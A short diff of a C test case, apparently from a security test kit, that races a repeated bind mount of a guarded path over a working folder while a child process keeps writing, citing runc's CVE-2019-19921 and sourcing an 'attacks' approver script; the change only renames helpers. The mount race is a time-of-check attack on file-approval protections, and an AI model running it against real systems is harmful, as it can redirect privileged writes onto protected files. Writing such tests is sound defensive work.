@@ -3,18 +3,18 @@
 // see: mount(2), MS_BIND; CVE-2019-19921 (runc)
 // goal: change
 // user: root
-// first: mkdir -p "$WORK/asked"; echo own >"$WORK/asked/asked"; chown -R dev "$WORK/asked"; . "$KIT/attacks/person.sh"; meanwhile approve_all "$WORK/asked/asked"
+// first: mkdir -p "$WORK/asked"; echo own >"$WORK/asked/asked"; chown -R dev "$WORK/asked"; . "$KIT/attacks/approver.sh"; meanwhile approve_all "$WORK/asked/asked"
 // undo: umount -q "$WORK/asked"; true
 #include "../kit.h"
 
 int main(void)
 {
-	const char *folder = join(told("WORK"), "/asked"), *file = join(folder, "/asked");
+	const char *folder = join(env("WORK"), "/asked"), *file = join(folder, "/asked");
 	time_t end = time(NULL) + 6;
 	pid_t child = keep_writing(file);
 
 	while (time(NULL) < end) {
-		if (mount(told("GUARDED"), folder, NULL, MS_BIND, NULL) < 0)
+		if (mount(env("GUARDED"), folder, NULL, MS_BIND, NULL) < 0)
 			perror("mount");
 		usleep(100000);
 		umount2(folder, MNT_DETACH);
